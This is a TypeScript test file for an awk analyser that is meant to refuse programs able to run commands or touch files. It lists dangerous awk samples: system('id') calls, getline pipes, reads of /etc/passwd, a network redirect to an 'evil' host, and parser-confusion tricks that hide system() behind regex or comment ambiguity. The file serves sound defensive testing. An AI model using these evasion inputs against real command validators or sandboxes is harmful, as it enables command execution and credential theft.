import fc from 'fast-check';
import { caseCount } from '@tenon/test-kit/properties';
import { describe, expect, it } from 'vitest';
import { readAwk } from '../../src/proof/languages/awk.ts';
import { AwkRefusal } from '../../src/proof/languages/awk-tokens.ts';
import { Canary, isInstalled } from './canary.ts';

const AWKS = ['gawk', 'mawk', 'original-awk', 'awk'];

function understood(program: string): boolean {
  try {
    readAwk(program);
    return true;
  } catch (error) {
    if (error instanceof AwkRefusal) return false;
    throw error;
  }
}

const HARMLESS = [
  '{print ($3 > 5)}',
  '{print $1}',
  '!seen[$0]++',
  'NR==1,NR==5',
  'length > 80',
  '/foo|bar/ && !/baz/ {n++} END{print n+0}',
  'BEGIN{FS=","; OFS="\\t"} {print $1,$NF}',
  '{printf "%s %d\\n", $1, $2/1024}',
  '{sum+=$1} END {print sum/NR}',
  '{gsub(/[^a-z]/,"",$1); print tolower($1)}',
  'function f(x){return x*2} {print f($1)}',
  '{ if ($1 > 5) { print "x" } else if (x) print; else next }',
  'FNR==NR{a[$1];next} ($1 in a)',
  '$1 ~ /^\\/usr/ {print}',
  '{print > "/dev/stderr"}',
  '/start/{f=1} f; /end/{f=0}',
  '{print (NR%2==0)?"a":"b"}',
  '{print "system(1) | getline"}',
  '/system\\(/ {print FILENAME": "FNR}',
  '{a[NR]=$0} END{for(i=NR;i>0;i--) print a[i]}',
  'BEGIN { x["a"]; if (("a","b") in x) print "yes" }',
  'NR%2{print $1; next} {print $2}',
];

const DANGEROUS = [
  'BEGIN{system("id")}',
  'BEGIN{system ("id")}',
  '{x = 1 / system("id") / 2}',
  '{a = b / c; system("id"); d = e / f}',
  '{print a /system("id")/ b}',
  '{print $1 /1; system("id") #/}',
  '{x = /a/ / system("id") / /b/}',
  '{ if (1) /x/; system("id") }',
  '{"id" | getline x}',
  '"id" | getline',
  '{while (("id" | getline x) > 0) print x}',
  '{getline x < "/etc/passwd"}',
  '{print |& "id"}',
  '{print > $1}',
  '{print > "a" "b"}',
  '{print > ("a")}',
  '{print | $1}',
  '{print | "id" $1}',
  '{print > "/inet/tcp/0/evil/80"}',
  '@include "x.awk"',
  '@load "filefuncs"',
  '{f = "system"; @f("id")}',
  'BEGIN{ARGV[1]="/etc/passwd"; ARGC=2}',
  'BEGIN{SYMTAB["ARGC"]=2}',
  'BEGIN{split("x y", ARGV)}',
  '{undefined(1)}',
  'BEGIN{printf "x" | "id"; close ("id"); system("")}',
  '/[/]/ {system("id")} #]/',
  '/[/]{system("id")}#]/',
  '{x = length / 2; system("id") #/}',
  '{print "a\nb"}',
  '# comment \\\nBEGIN{system("id")}',
  'BEGIN\u000b{system("id")}',
  '{i++ /x/; system("id") #/\n}',
];

describe('programs of awk', () => {
  for (const program of HARMLESS)
    it(`understands ${program}`, () => expect(readAwk(program)).toEqual({ writes: [], scripts: [] }));

  for (const program of DANGEROUS)
    it(`does not understand ${JSON.stringify(program)}`, () => expect(understood(program)).toBe(false));

  it('says which files a program writes, and which commands it prints to', () => {
    expect(readAwk('{print > "out.txt"; print $1 >> "log/x"; print | "sort -rn"}')).toEqual({
      writes: ['out.txt', 'log/x'],
      scripts: ['sort -rn'],
    });
  });

  it('never understands a program that calls system or getline, wherever it stands', () => {
    const before = fc.constantFrom(
      '',
      'x = 1 / 2; ',
      'x = a / b; ',
      'if (/a/) x++; ',
      'print a, b / c; ',
      'i++; ',
      'y = x /2/ 3; ',
      '$1 ~ /x/; ',
      'print "/"; ',
      '# /\n',
      'x = "a" /3; ',
    );
    const danger = fc.constantFrom(
      'system("id")',
      'system ("id")',
      'system(\n"id")',
      '"id" | getline',
      '"id"|getline x',
      'getline < "f"',
      'getline',
      'print x |& "id"',
    );
    const around = fc.constantFrom(
      (code: string) => code,
      (code: string) => `x = ${code}`,
      (code: string) => `x = 1 / ${code} / 2`,
      (code: string) => `if (${code}) y`,
      (code: string) => `print a / (${code})`,
      (code: string) => `while ((${code}) > 0) z++`,
      (code: string) => `a[${code}]`,
    );
    const after = fc.constantFrom('', '; x / 2', ' #/', '\n/x/', '; y = "/"');
    fc.assert(
      fc.property(
        before,
        danger,
        around,
        after,
        fc.constantFrom('{', 'BEGIN {', '/x/ {'),
        (first, run, wrap, last, open) => {
          expect(understood(`${open}${first}${wrap(run)}${last}\n}`)).toBe(false);
        },
      ),
      { numRuns: caseCount(1000) },
    );
  });

  it('understands only programs that run nothing and make no file, as the real awks show', () => {
    const canary = new Canary();
    const installed = AWKS.filter(isInstalled);
    const piece = fc.constantFrom(
      ...'{ } ( ) [ ] / / / a b $1 $ NF " "x" print printf | > ; if else while for in ~ ! = == + - ++ -- * % ? : , && || # 1 length exit next'.split(
        ' ',
      ),
      ...[
        'system("touch PWN")',
        '|"touch PWN"',
        '"touch PWN"|getline',
        '> "PWN"',
        ' ',
        '\n',
        '\\\n',
        '/x/',
        '/[/]/',
        '/"/',
        '/#/',
        '/=/',
        '"/"',
        '/\\//',
        'sub(/',
        'substr(',
        'BEGIN',
        'x[',
        '$(',
      ],
    );
    const program = fc.array(piece, { minLength: 1, maxLength: 10 }).map((pieces) => pieces.join(''));
    let tried = 0;
    fc.assert(
      fc.property(
        fc.oneof(
          program,
          program.map((text) => `{${text}}`),
          program.map((text) => `{x = a ${text}}`),
          program.map((text) => `BEGIN{${text}}`),
        ),
        (text) => {
          if (!understood(text)) return;
          const { writes, scripts } = readAwk(text);
          if (writes.length > 0 || scripts.length > 0) return;
          // Loops that never end would only cost time.
          if (/while|for/.test(text)) return;
          tried++;
          for (const awk of installed) expect(canary.effectsOf(awk, [text, 'in']), awk).toEqual([]);
        },
      ),
      { numRuns: caseCount(2500) },
    );
    expect(tried).toBeGreaterThan(20);
  });
});
